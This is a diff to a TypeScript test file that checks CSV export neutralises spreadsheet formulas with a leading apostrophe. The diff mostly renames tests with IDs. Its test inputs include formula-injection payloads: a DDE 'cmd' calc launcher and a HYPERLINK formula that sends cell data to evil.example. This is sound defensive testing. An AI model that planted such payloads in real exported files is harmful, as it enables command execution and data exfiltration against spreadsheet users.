@@ -2,8 +2,7 @@ import { neutraliseFormula, restoreFormula } from '@basics/contract/fields/csv-t
 import { Readable } from 'node:stream';
 import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { readBatches, createCsvName, writeCsv } from './csv.ts';
-import type { Cell } from './csv.ts';
+import { readBatches, createCsvName, writeCsv, type Cell } from './csv.ts';
 
 /** Returns the whole CSV text of a table with the given batches of rows. */
 async function writeText(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
@@ -50,7 +49,7 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
     '“=1',
     '=cmd|’ /C calc’!A0',
     '=HYPERLINK("https://evil.example?"&A1)',
-  ])('the text %j gets an apostrophe in front, and an import removes the apostrophe', (text) => {
+  ])('the text %j gets an apostrophe in front, and an import removes the apostrophe (T487)', (text) => {
     expect(neutraliseFormula(text)).toBe(`'${text}`);
     expect(restoreFormula(neutraliseFormula(text))).toBe(text);
   });
@@ -63,7 +62,7 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
     },
   );
 
-  test('any text is the same after an export and an import, and no exported text begins with a character that starts a formula', () => {
+  test('any text is the same after an export and an import, and no exported text begins with a character that starts a formula (T486)', () => {
     const character = fc.constantFrom(
       '=',
       '+',
